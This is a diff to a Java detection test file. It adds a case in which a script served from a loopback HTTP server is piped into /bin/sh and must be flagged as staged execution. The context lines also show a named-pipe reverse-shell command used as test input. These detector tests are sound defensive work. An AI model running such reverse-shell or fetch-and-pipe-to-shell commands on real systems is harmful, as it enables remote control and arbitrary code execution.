@@ -4,12 +4,14 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.sun.net.httpserver.HttpServer;
 import io.procguard.core.Status;
 import java.io.IOException;
 import java.io.InputStream;
 import java.io.OutputStream;
 import java.io.UncheckedIOException;
 import java.net.InetAddress;
+import java.net.InetSocketAddress;
 import java.net.ServerSocket;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
@@ -139,6 +141,34 @@ class RunDetectionTest {
                 "cd '" + dir + "' && rm -f f && mkfifo f && cat f | /bin/sh -i 2>&1 | /usr/bin/python3 relay.py PORT > f");
         assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
         assertThat(reasons).anyMatch(r -> r.startsWith("sh: ind.reverse_shell=1 (+"));
+    }
+
+    /**
+     * {@code curl URL | sh}: a script straight from the network, never saved. The fetcher is a line of Python standing in
+     * for curl (not installed on CI), the server the JDK's own on loopback. Full and lean traces.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"", "--seccomp-bpf"})
+    void aScriptPipedFromTheNetworkIntoAShellIsFlagged(String mode) throws Exception {
+        byte[] script = "echo fetched; uname -a > /dev/null\n".getBytes(StandardCharsets.US_ASCII);
+        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        server.createContext("/install.sh", exchange -> {
+            exchange.sendResponseHeaders(200, script.length);
+            try (OutputStream out = exchange.getResponseBody()) {
+                out.write(script);
+            }
+        });
+        server.start();
+        try {
+            List<String> reasons = new ArrayList<>();
+            Status worst = worstStatus(mode.isEmpty() ? List.of() : List.of(mode), reasons, "/bin/sh", "-c",
+                    "/usr/bin/python3 -c 'import sys,urllib.request as u; sys.stdout.buffer.write(u.urlopen(sys.argv[1]).read())' "
+                            + "http://127.0.0.1:" + server.getAddress().getPort() + "/install.sh | /bin/sh");
+            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+            assertThat(reasons).anyMatch(r -> r.startsWith("sh: ind.staged_exec=1 (+"));
+        } finally {
+            server.stop(0);
+        }
     }
 
     @Test
